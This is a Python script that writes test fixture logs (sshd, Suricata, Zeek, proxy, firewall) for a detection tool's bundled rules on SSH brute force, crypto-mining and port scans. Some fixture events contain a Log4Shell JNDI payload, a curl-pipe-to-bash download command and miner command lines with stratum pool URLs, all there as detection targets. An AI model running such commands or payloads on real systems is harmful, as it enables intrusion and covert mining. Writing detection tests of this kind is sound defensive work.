#!/usr/bin/env python3
"""Writes the event files of tests/data/bundled-rules/ (checked in; the test
never regenerates them). Run it from anywhere after changing a scenario and
review the diff.

Each file is one scenario for tests/integration/test_bundled_rules.py, which
runs `mamori rules test --bundled --counts` over it alone and compares the
alerts per rule. The events are shaped as mamori receives them: sshd lines
as syslog (RFC 5424 as rsyslog forwards them, RFC 3164 as in auth.log),
Suricata EVE records, Zeek JSON logs as a shipper sends them (with
event.dataset zeek.<log>), and ECS JSON from shippers that parse what
mamori's own parsers do not (sshd fields, firewall and proxy logs).
"""
import json
import os
from datetime import datetime, timedelta, timezone

HERE = os.path.dirname(os.path.abspath(__file__))
T0 = datetime(2026, 3, 3, 10, 0, 0, tzinfo=timezone.utc)


def ts(sec):
    return T0 + timedelta(seconds=sec)


def iso(sec):
    return ts(sec).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def eve_ts(sec):
    return ts(sec).strftime("%Y-%m-%dT%H:%M:%S.%f") + "+0000"


def write(name, lines):
    with open(os.path.join(HERE, name), "w", encoding="utf-8") as f:
        for line in lines:
            f.write((line if isinstance(line, str) else json.dumps(line)) + "\n")


# ---- sshd as syslog ----

def s5424(sec, msg, host="web1", app="sshd", pid=2210, pri=38):
    """An RFC 5424 line as rsyslog's RSYSLOG_SyslogProtocol23Format sends it."""
    return f"<{pri}>1 {ts(sec).strftime('%Y-%m-%dT%H:%M:%S.%f')}+00:00 {host} {app} {pid} - - {msg}"


def s3164(sec, msg, host="web1", app="sshd", pid=2210, pri=38):
    """An RFC 3164 line as in /var/log/auth.log forwarded by syslog."""
    t = ts(sec)
    return f"<{pri}>{t.strftime('%b')} {t.day:2d} {t.strftime('%H:%M:%S')} {host} {app}[{pid}]: {msg}"


def failed(user, ip, port, invalid=False):
    return f"Failed password for {'invalid user ' if invalid else ''}{user} from {ip} port {port} ssh2"


NOISE = [  # sshd lines around an attack that are no failed password
    lambda ip, p: f"Connection closed by authenticating user root {ip} port {p} [preauth]",
    lambda ip, p: f"Received disconnect from {ip} port {p}:11: Bye Bye [preauth]",
    lambda ip, p: f"Disconnected from authenticating user root {ip} port {p} [preauth]",
    lambda ip, p: f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user=root",
    lambda ip, p: f"error: maximum authentication attempts exceeded for root from {ip} port {p} ssh2 [preauth]",
]


def brute(n, ip="203.0.113.7", step=7, fmt=s5424, noise=True, start=0):
    out = []
    for i in range(n):
        port = 40100 + i
        user, inv = (("admin", True) if i % 3 == 1 else ("root", False))
        app = "sshd-session" if i % 4 == 3 else "sshd"   # OpenSSH >= 9.8 logs as sshd-session
        if inv:
            out.append(fmt(start + i * step, f"Invalid user {user} from {ip} port {port}", app=app, pid=3000 + i))
        out.append(fmt(start + i * step + 1, failed(user, ip, port, inv), app=app, pid=3000 + i))
        if noise:
            out.append(fmt(start + i * step + 2, NOISE[i % len(NOISE)](ip, port), app=app, pid=3000 + i))
    return out


write("sshd_bruteforce_10.log", brute(10))
write("sshd_bruteforce_9.log", brute(9))
# Ten failures, but the tenth 5 min 1 s after the first (at 1 s): never ten
# within 5 min (an event exactly 5 min after the first still counts).
write("sshd_bruteforce_slow.log",
      brute(9, step=30, noise=False) + [s5424(302, failed("root", "203.0.113.7", 40999))])
# A long attack: the correlation fires again for every further ten.
write("sshd_bruteforce_30.log", brute(30, step=2))
# Ten failures from ten addresses: no address tried ten times.
write("sshd_spread_sources.log",
      [s5424(i * 5, failed("root", f"198.51.100.{10 + i}", 41000 + i)) for i in range(10)])
# The same attack as auth.log lines (RFC 3164 stamps carry no year).
write("sshd_bruteforce_3164.log", brute(10, fmt=s3164))
# Base rules one by one: what each must and must not match.
write("sshd_lines.log", [
    s3164(0, failed("root", "203.0.113.7", 40001)),                          # failed
    s3164(1, failed("oracle", "203.0.113.7", 40002, invalid=True)),          # failed
    s3164(2, "Failed keyboard-interactive/pam for root from 203.0.113.7 port 40003 ssh2"),  # failed
    s5424(3, failed("root", "2001:db8::7", 40004), app="sshd-session"),      # failed
    s3164(4, "Invalid user oracle from 203.0.113.7 port 40005"),             # invalid
    s5424(5, "Invalid user test from 2001:db8::7 port 40006", app="sshd-session"),  # invalid
    s3164(6, "Accepted password for alice from 198.51.100.20 port 50022 ssh2"),       # accepted, no source.ip
    s3164(7, "Accepted publickey for alice from 198.51.100.20 port 50023 ssh2: ED25519 SHA256:Yt5XcE0Q2d"),
    s3164(8, "Failed publickey for alice from 198.51.100.20 port 50024 ssh2: ED25519 SHA256:Yt5XcE0Q2d"),
    s3164(9, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.7  user=root"),
    s3164(10, "Connection closed by invalid user oracle 203.0.113.7 port 40005 [preauth]"),
    s3164(11, "pam_unix(su:auth): authentication failure; logname=bob uid=1000 euid=0 tty=pts/0 ruser=bob rhost=  user=root", app="su"),
    s3164(12, "Failed password for root from 203.0.113.7 port 40007 ssh2", app="dropbear"),   # not sshd
    s3164(13, "FAILED LOGIN 1 FROM tty1 FOR root, Authentication failure", app="login"),
    s3164(14, "invalid user name in request from 203.0.113.7", app="sshd"),  # lower case: not sshd's line
])

# ---- sshd as ECS JSON (a shipper that parsed the line: source.ip, user.name) ----


def ssh_json(sec, msg, ip, user, outcome, action, host="web1", program="sshd"):
    return {"@timestamp": iso(sec), "event": {"module": "sshd", "dataset": "system.auth",
            "category": ["authentication"], "outcome": outcome, "action": action},
            "host": {"name": host}, "process": {"name": program, "pid": 3100},
            "source": {"ip": ip}, "user": {"name": user}, "message": msg}


def jfail(sec, ip, user, invalid=False, port=42000):
    return ssh_json(sec, failed(user, ip, port, invalid), ip, user, "failure", "ssh_login")


def jinvalid(sec, ip, user, port=42000):
    return ssh_json(sec, f"Invalid user {user} from {ip} port {port}", ip, user, "failure", "ssh_login")


def jaccept(sec, ip, user, method="password", port=42000):
    return ssh_json(sec, f"Accepted {method} for {user} from {ip} port {port} ssh2", ip, user,
                    "success", "ssh_login")


# Two sources at once: ten failures from one, nine from the other.
write("sshd_ecs_two_sources.jsonl",
      [e for i in range(10) for e in
       ([jfail(i * 6, "203.0.113.7", "root", port=42000 + i)] +
        ([jfail(i * 6 + 3, "203.0.113.99", "root", port=43000 + i)] if i < 9 else []))])
# Five account names from one source (failed passwords and unknown accounts,
# names repeated), four from another.
write("sshd_ecs_users_5.jsonl", [
    jinvalid(0, "192.0.2.50", "admin"), jfail(1, "192.0.2.50", "admin", True),
    jfail(5, "192.0.2.50", "root"), jfail(6, "192.0.2.50", "root"),
    jinvalid(10, "192.0.2.50", "oracle"), jfail(11, "192.0.2.50", "oracle", True),
    jinvalid(15, "192.0.2.51", "test"), jinvalid(16, "192.0.2.51", "guest"),
    jinvalid(20, "192.0.2.50", "ubuntu"), jinvalid(25, "192.0.2.51", "pi"),
    jfail(30, "192.0.2.51", "root"), jfail(31, "192.0.2.51", "root"),
    jfail(40, "192.0.2.50", "postgres"),   # the fifth name of 192.0.2.50
])
write("sshd_ecs_users_4.jsonl", [
    jinvalid(0, "192.0.2.50", "admin"), jfail(1, "192.0.2.50", "admin", True),
    jfail(5, "192.0.2.50", "root"), jinvalid(10, "192.0.2.50", "oracle"),
    jinvalid(20, "192.0.2.50", "ubuntu"), jfail(21, "192.0.2.50", "ubuntu", True),
    jfail(30, "192.0.2.50", "root"),
])
# Failures, then a password login from the same address (and a public-key
# login and another address's success, which must not count).
write("sshd_ecs_login_after_failures.jsonl", [
    jfail(0, "203.0.113.7", "root"), jfail(4, "203.0.113.7", "deploy"),
    jaccept(20, "198.51.100.20", "alice"),                     # another source
    jaccept(30, "203.0.113.7", "deploy", method="publickey"),  # not a password
    jaccept(60, "203.0.113.7", "deploy"),                      # fires
])
# A brute force that worked: ten failures, then (20 min later) a password
# login from the same address; a public-key login and another address's
# password login in between do not count.
write("sshd_ecs_login_after_bruteforce.jsonl",
      [jfail(i * 6, "203.0.113.7", "root", port=44000 + i) for i in range(10)] + [
          jaccept(300, "203.0.113.7", "deploy", method="publickey"),
          jaccept(400, "198.51.100.20", "alice"),
          jaccept(1200, "203.0.113.7", "deploy"),
      ])
# Nine failures then a login (no brute force); ten failures then a login
# 30 min 2 s after the tenth (too late).
write("sshd_ecs_login_after_bruteforce_neg.jsonl", sorted(
      [jfail(i * 6, "192.0.2.70", "root", port=44000 + i) for i in range(9)] +
      [jfail(i * 6 + 1, "192.0.2.71", "root", port=45000 + i) for i in range(10)] + [
          jaccept(1000, "192.0.2.70", "root"),
          jaccept(55 + 1802, "192.0.2.71", "root"),
      ], key=lambda e: e["@timestamp"]))
write("sshd_ecs_login_no_failures.jsonl", [
    jaccept(0, "203.0.113.7", "deploy"),            # success first,
    jfail(30, "203.0.113.7", "deploy"),             # then a failure: wrong order
    jfail(40, "198.51.100.20", "alice"),
    jaccept(50, "198.51.100.21", "alice"),          # failure was from another source
    jfail(100, "192.0.2.9", "bob"),
    jaccept(100 + 601, "192.0.2.9", "bob"),         # 10 min 1 s later: too late
])

# ---- Suricata alerts ----


def eve_alert(sec, sid, sig, cat, sev, src="203.0.113.50", dst="192.0.2.10", dport=80,
              action="allowed", proto="TCP", app="http", extra=None):
    e = {"timestamp": eve_ts(sec), "flow_id": 1830000000000000 + sid % 100000, "in_iface": "eth0",
         "event_type": "alert", "src_ip": src, "src_port": 44321, "dest_ip": dst, "dest_port": dport,
         "proto": proto, "pkt_src": "wire/pcap", "community_id": "1:Ebn0kU0R0fFI9gmzX9YWr0dUGxg=",
         "alert": {"action": action, "gid": 1, "signature_id": sid, "rev": 3, "signature": sig,
                   "category": cat, "severity": sev},
         "app_proto": app, "direction": "to_server",
         "flow": {"pkts_toserver": 4, "pkts_toclient": 3, "bytes_toserver": 811, "bytes_toclient": 412,
                  "start": eve_ts(sec - 1), "src_ip": src, "dest_ip": dst, "src_port": 44321,
                  "dest_port": dport}}
    if extra:
        e.update(extra)
    return e


write("suricata_alerts.jsonl", [
    eve_alert(0, 2034647, "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
              "Attempted Administrator Privilege Gain", 1,
              extra={"http": {"hostname": "www.example.org", "url": "/?x=${jndi:ldap://203.0.113.50/a}",
                              "http_user_agent": "curl/8.5.0", "http_method": "GET",
                              "protocol": "HTTP/1.1", "status": 200, "length": 312}}),
    eve_alert(1, 2027865, "ET INFO Observed DNS Query to .cloud TLD", "Potentially Bad Traffic", 2,
              src="10.0.5.21", dst="10.0.0.2", dport=53, proto="UDP", app="dns"),
    eve_alert(2, 2001219, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, dport=22, app="ssh"),
    eve_alert(3, 2019284, "ET MALWARE Possible Zeus GameOver/FluBot Related DGA NXDOMAIN Responses",
              "A Network Trojan was detected", 1, src="10.0.5.33", dst="10.0.0.2", dport=53,
              proto="UDP", app="dns"),
    eve_alert(4, 2013028, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 3,
              src="10.0.5.21", dst="198.51.100.80"),
    eve_alert(5, 2024792, "ET POLICY Cryptocurrency Miner Checkin", "Crypto Currency Mining Activity Detected", 1,
              src="10.0.5.40", dst="198.51.100.81", dport=3333, app="failed"),
    eve_alert(6, 2033416, "ET COINMINER Observed DNS Query to Cryptocurrency Mining Pool Domain (pool .supportxmr .com)",
              "Crypto Currency Mining Activity Detected", 2, src="10.0.5.40", dst="10.0.0.2",
              dport=53, proto="UDP", app="dns"),
    eve_alert(7, 2018360, "ET COINMINER JSON stratum login", "Crypto Currency Mining Activity Detected",
              2, src="10.0.5.40", dst="198.51.100.81", dport=3333, app="failed"),
    eve_alert(8, 2016149, "ET INFO Session Traversal Utilities for NAT (STUN Binding Request)",
              "Attempted User Privilege Gain", 3, src="10.0.5.21", dst="198.51.100.9", dport=3478,
              proto="UDP", app="failed"),
    eve_alert(9, 2210045, "SURICATA STREAM Packet with invalid ack", "Generic Protocol Command Decode",
              3, action="blocked"),
    eve_alert(10, 2200003, "SURICATA IPv4 truncated packet", "Generic Protocol Command Decode", 3),
    # Severity 1 with the alert blocked (IPS mode): still high.
    eve_alert(11, 2024897, "ET EXPLOIT Possible Apache Struts OGNL Expression Injection (CVE-2017-5638)",
              "Attempted Administrator Privilege Gain", 1, action="blocked"),
    # Not an alert: severity fields elsewhere must not count.
    {"timestamp": eve_ts(12), "event_type": "anomaly", "src_ip": "203.0.113.50", "dest_ip": "192.0.2.10",
     "proto": "TCP", "anomaly": {"type": "stream", "event": "stream.pkt_invalid_ack", "layer": "proto_detect"}},
])

# ---- crypto-mining: DNS ----


def eve_dns(sec, name, src="10.0.5.40", version=2, rrtype="A"):
    d = {"timestamp": eve_ts(sec), "flow_id": 1840000000000000 + sec, "in_iface": "eth0",
         "event_type": "dns", "src_ip": src, "src_port": 53124, "dest_ip": "10.0.0.2", "dest_port": 53,
         "proto": "UDP", "pkt_src": "wire/pcap"}
    if version == 2:
        d["dns"] = {"version": 2, "type": "query", "id": 41235, "rrname": name, "rrtype": rrtype,
                    "tx_id": 0, "opcode": 0}
    else:   # Suricata 8 (EVE dns v3): the question is in queries[]
        d["dns"] = {"version": 3, "type": "request", "id": 41235, "opcode": 0, "rd": True,
                    "queries": [{"rrname": name, "rrtype": rrtype}]}
    return d


def resolver(sec, name, src="10.0.5.41", module="unbound"):
    return {"@timestamp": iso(sec), "event": {"module": module, "dataset": f"{module}.query"},
            "source": {"ip": src, "port": 40112}, "dns": {"question": {"name": name, "type": "A"}},
            "host": {"name": "resolver1"}}


def zeek(sec, log, **fields):
    z = {"ts": 1772532000.0 + sec, "uid": "CwZ5Nv3Yh1bQ8xgk9", "id.orig_h": "10.0.5.42",
         "id.orig_p": 51544, "id.resp_h": "198.51.100.81", "id.resp_p": 443,
         "event": {"dataset": f"zeek.{log}"}}
    z.update(fields)
    return z


write("coinmining_dns.jsonl", [
    eve_dns(0, "pool.supportxmr.com"),                        # hit
    eve_dns(1, "gulf.moneroocean.stream", version=3),         # hit (EVE v3)
    eve_dns(2, "xmr-eu1.nanopool.org", rrtype="AAAA"),        # hit
    eve_dns(3, "donate.v2.xmrig.com"),                        # hit
    eve_dns(4, "www.supportxmr.com"),                         # pool web site: no
    eve_dns(5, "supportxmr.com.example.net"),                 # not the pool's domain: no
    eve_dns(6, "xmrig.com"),                                  # the miner's web site: no
    eve_dns(7, "www.example.org"),
    resolver(8, "auto.c3pool.org"),                           # hit (resolver log)
    resolver(9, "rx.unmineable.com", module="named"),         # hit
    resolver(10, "updates.example.com"),
    zeek(11, "dns", **{"id.resp_p": 53, "proto": "udp", "trans_id": 41235,
                       "query": "xmr.2miners.com", "qtype_name": "A", "rcode_name": "NOERROR",
                       "answers": ["51.15.54.102"], "TTLs": [60.0]}),      # hit (Zeek)
    zeek(12, "ssl", version="TLSv13", server_name="pool.hashvault.pro", established=True),  # hit (Zeek)
    zeek(13, "http", method="GET", host="eth.2miners.com", uri="/api/accounts/x"),          # hit (Zeek)
    zeek(14, "ssl", version="TLSv13", server_name="www.nicehash.com", established=True),
    zeek(15, "dns", query="mail.example.com", qtype_name="MX"),
])

# ---- crypto-mining: TLS and proxy ----


def eve_tls(sec, sni, dport=443, src="10.0.5.40"):
    return {"timestamp": eve_ts(sec), "flow_id": 1850000000000000 + sec, "in_iface": "eth0",
            "event_type": "tls", "src_ip": src, "src_port": 51544, "dest_ip": "198.51.100.81",
            "dest_port": dport, "proto": "TCP", "pkt_src": "wire/pcap",
            "tls": {"subject": f"CN={sni}", "issuerdn": "C=US, O=Let's Encrypt, CN=R11",
                    "serial": "04:A1:3C:7F:22", "fingerprint": "3b:9c:4d:1e:aa:07:58:f2:61:0c:9e:14:2f:b3:77:40:5a:de:91:c8",
                    "sni": sni, "version": "TLS 1.3", "notbefore": "2026-01-10T00:00:00",
                    "notafter": "2026-04-10T23:59:59",
                    "ja3": {"hash": "6734f37431670b3ab4292b8f60f29984"},
                    "ja3s": {"hash": "f4febc55ea12b31ae17cfb7e614afda8"}}}


def eve_http(sec, host, url="/", dport=80, src="10.0.5.40"):
    return {"timestamp": eve_ts(sec), "flow_id": 1860000000000000 + sec, "in_iface": "eth0",
            "event_type": "http", "src_ip": src, "src_port": 51600, "dest_ip": "198.51.100.82",
            "dest_port": dport, "proto": "TCP",
            "http": {"hostname": host, "url": url, "http_user_agent": "python-requests/2.31.0",
                     "http_method": "GET", "protocol": "HTTP/1.1", "status": 200, "length": 145}}


def squid(sec, method, url, domain=None, port=None, src="10.0.5.30", status=200):
    e = {"@timestamp": iso(sec), "event": {"module": "squid", "dataset": "squid.access"},
         "source": {"ip": src}, "http": {"request": {"method": method}, "response": {"status_code": status}},
         "url": {"original": url}, "squid": {"hierarchy_code": "HIER_DIRECT", "result_code": "TCP_TUNNEL"}}
    if domain:
        e["url"]["domain"] = domain
    if port:
        e["url"]["port"] = port
        e["destination"] = {"port": port}
    return e


write("coinmining_tls_proxy.jsonl", [
    eve_tls(0, "pool.supportxmr.com", dport=443),              # pool list: hit
    eve_tls(1, "gulf.moneroocean.stream", dport=20128),        # pool list (also a mining port): pool rule only
    eve_tls(2, "xmr.minerfarm.example", dport=14444),          # port + pool-like name: hit (medium)
    eve_tls(3, "pool.example.net", dport=443),                 # pool-like name on 443: no
    eve_tls(4, "mail.example.com", dport=4444),                # mining port, ordinary name: no
    eve_tls(5, "www.nicehash.com"),                            # web site: no
    eve_http(6, "xmr.2miners.com", "/api/stats"),              # HTTP to a pool host: hit
    eve_http(7, "www.example.org", "/stratum-of-rock.html"),
    squid(8, "CONNECT", "gulf.moneroocean.stream:10128", port=10128),     # tunnel to a pool: hit
    squid(9, "CONNECT", "eu.randomx-hub.example:3333", port=3333),        # tunnel, mining port, pool-like: hit (medium)
    squid(10, "CONNECT", "www.nicehash.com:443", port=443),
    squid(11, "CONNECT", "pool.example.net:443", port=443),              # pool-like on 443: no
    squid(12, "CONNECT", "chat.example.com:5555", port=5555),            # mining port, ordinary name: no
    squid(13, "GET", "http://www.supportxmr.com/", domain="www.supportxmr.com"),  # web site: no
    squid(14, "GET", "http://news.example.com/story?q=supportxmr.com", domain="news.example.com"),  # no
])

# ---- crypto-mining: stratum URLs in command lines and logs ----

SYSMON_PROC = ('{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},'
               '"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"app7.corp.example",'
               '"TimeCreated":{"#attributes":{"SystemTime":"2026-03-03T10:00:05.000Z"}}},'
               '"EventData":{"Image":"C:\\\\Users\\\\Public\\\\svchost.exe",'
               '"CommandLine":"%s","ParentImage":"C:\\\\Windows\\\\System32\\\\cmd.exe",'
               '"ParentCommandLine":"cmd.exe /c start.bat","User":"APP7\\\\svc_web"}}}')

write("coinmining_stratum.log", [
    s5424(0, "bob : TTY=pts/1 ; PWD=/tmp/.x ; USER=root ; COMMAND=/tmp/.x/kworker -o stratum+tcp://gulf.moneroocean.stream:10128 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1", app="sudo", pid=4012, pri=85),
    s5424(1, "Started kdevtmpfsi.service - stratum+ssl://xmr.2miners.com:12222 worker.", app="systemd", pid=1, pri=30),
    s3164(2, "Selected source 192.0.2.123 (ntp.example.net) stratum 2", app="chronyd", pid=612, pri=30),
    s3164(3, "synchronized to 192.0.2.123, stratum 2", app="ntpd", pid=711, pri=30),
    SYSMON_PROC % "C:\\\\Users\\\\Public\\\\svchost.exe -a rx/0 -o stratum+tcp://pool.example-miner.net:3333 -u x -p app7 -k",
    SYSMON_PROC % "C:\\\\Users\\\\Public\\\\svchost.exe -k netsvcs -p",
    json.dumps({"@timestamp": iso(6), "event": {"module": "auditd"}, "host": {"name": "db2"},
                "process": {"name": "bash", "command_line": "curl -s http://198.51.100.7/x.sh | bash -s stratum2+tcp://203.0.113.9:3333"}}),
])

# ---- firewall: denied connections and port scans ----


def fw(sec, src, dst, dport, action="drop", module="iptables", proto="tcp"):
    """A firewall log line as a shipper sends it (Filebeat iptables/nftables
    modules, or a firewall's JSON): ECS source/destination, the action."""
    e = {"@timestamp": iso(sec), "event": {"module": module, "category": ["network"],
                                           "action": action},
         "observer": {"name": "fw1", "type": "firewall"},
         "source": {"ip": src, "port": 40000 + (sec * 7) % 20000},
         "destination": {"ip": dst, "port": dport}, "network": {"transport": proto}}
    if action in ("drop", "deny", "reject"):
        e["event"]["type"] = ["connection", "denied"]
    else:
        e["event"]["type"] = ["connection", "allowed"]
    return e


def fw_ecs_type_only(sec, src, dst, dport):
    """A deny told by ECS event.type alone (no action)."""
    return {"@timestamp": iso(sec), "event": {"module": "nftables", "type": ["connection", "denied"]},
            "source": {"ip": src}, "destination": {"ip": dst, "port": dport},
            "network": {"transport": "tcp"}}


PORTS = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1723,
         3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200, 11211, 27017, 50000]


def vertical(n, src="198.51.100.23", dst="192.0.2.10", step=3):
    out = []
    for i in range(n):
        if i % 5 == 4:
            out.append(fw_ecs_type_only(i * step, src, dst, PORTS[i]))
        else:
            out.append(fw(i * step, src, dst, PORTS[i], action=["drop", "deny", "reject", "block"][i % 4],
                          module=["iptables", "firewall"][i % 2]))
        if i % 3 == 0:   # the same port again (another host): still one port
            out.append(fw(i * step + 1, src, "192.0.2.11", PORTS[i]))
    return out


allowed = [fw(100 + i, "198.51.100.23", "192.0.2.10", 60000 + i, action="accept") for i in range(30)]
write("firewall_vertical_25.jsonl", vertical(25) + allowed)
write("firewall_vertical_24.jsonl", vertical(24) + allowed)
# 25 ports, the 25th more than 5 min after the first port was last seen
# (port 21 at 0 s and again at 1 s): never 25 within the window.
write("firewall_vertical_slow.jsonl", vertical(24, step=12) +
      [fw(302, "198.51.100.23", "192.0.2.10", PORTS[24])])
write("firewall_horizontal_25.jsonl",
      [fw(i * 2, "10.1.2.3", f"10.1.3.{i + 1}", 445) for i in range(25)] +
      [fw(60 + i, "10.1.2.3", f"10.1.3.{i + 1}", 139) for i in range(10)])
write("firewall_horizontal_24.jsonl",
      [fw(i * 2, "10.1.2.3", f"10.1.3.{i + 1}", 445) for i in range(24)] +
      [fw(60 + i, "10.1.2.4", f"10.1.3.{i + 1}", 445) for i in range(24)] +
      [fw(120 + i, "10.1.2.3", f"10.1.3.{i + 1}", 445, action="accept") for i in range(24, 40)])


def eve_flow(sec, src, dst, dport, ts_flags, tc_flags=None):
    pkts_tc = 1 if tc_flags else 0
    tcp = {"tcp_flags": ts_flags if not tc_flags else "%02x" % (int(ts_flags, 16) | int(tc_flags, 16)),
           "tcp_flags_ts": ts_flags, "syn": True, "state": "closed" if tc_flags else "syn_sent"}
    if tc_flags:
        tcp["tcp_flags_tc"] = tc_flags
        tcp["rst"] = True
        tcp["ack"] = True
    return {"timestamp": eve_ts(sec), "flow_id": 1870000000000000 + sec * 100 + dport % 100,
            "in_iface": "eth0", "event_type": "flow", "src_ip": src, "src_port": 61000 + sec % 1000,
            "dest_ip": dst, "dest_port": dport, "proto": "TCP",
            "flow": {"pkts_toserver": 1, "pkts_toclient": pkts_tc, "bytes_toserver": 60,
                     "bytes_toclient": 54 * pkts_tc, "start": eve_ts(sec), "end": eve_ts(sec),
                     "age": 0, "state": "closed" if tc_flags else "new", "reason": "timeout",
                     "alerted": False},
            "tcp": tcp}


# A SYN scan: closed ports answer RST (ts 02, tc 14), filtered ones nothing
# (ts 02), open ones SYN-ACK that the scanner resets (ts 06); completed
# connections (ts 1b) to other ports must not count.
scan = []
for i in range(25):
    kind = i % 3
    scan.append(eve_flow(i * 2, "203.0.113.66", "192.0.2.20", PORTS[i],
                         "02" if kind < 2 else "06", "14" if kind == 0 else ("12" if kind == 2 else None)))
for i in range(10):
    scan.append(eve_flow(80 + i, "203.0.113.67", "192.0.2.20", 20000 + i, "1b", "1b"))
write("suricata_flow_scan_25.jsonl", scan)
write("suricata_flow_scan_24.jsonl", scan[:24] + scan[25:] +
      [eve_flow(90 + i, "203.0.113.66", "192.0.2.20", 30000 + i, "1b", "1b") for i in range(5)])
# Firewall denies and Suricata flows from one source count together.
write("mixed_scan_25.jsonl",
      [fw(i * 2, "198.51.100.77", "192.0.2.10", PORTS[i]) for i in range(12)] +
      [eve_flow(30 + i, "198.51.100.77", "192.0.2.21", PORTS[i], "02") for i in range(12, 25)])
# A scanner the site runs on purpose, excluded by a filter beside the rules
# (filters/site_exceptions.yml), and another that is not.
write("firewall_scanner_exception.jsonl",
      [fw(i * 2, "192.0.2.250", "192.0.2.10", PORTS[i]) for i in range(25)] +
      [fw(60 + i * 2, "198.51.100.23", "192.0.2.10", PORTS[i]) for i in range(25)])
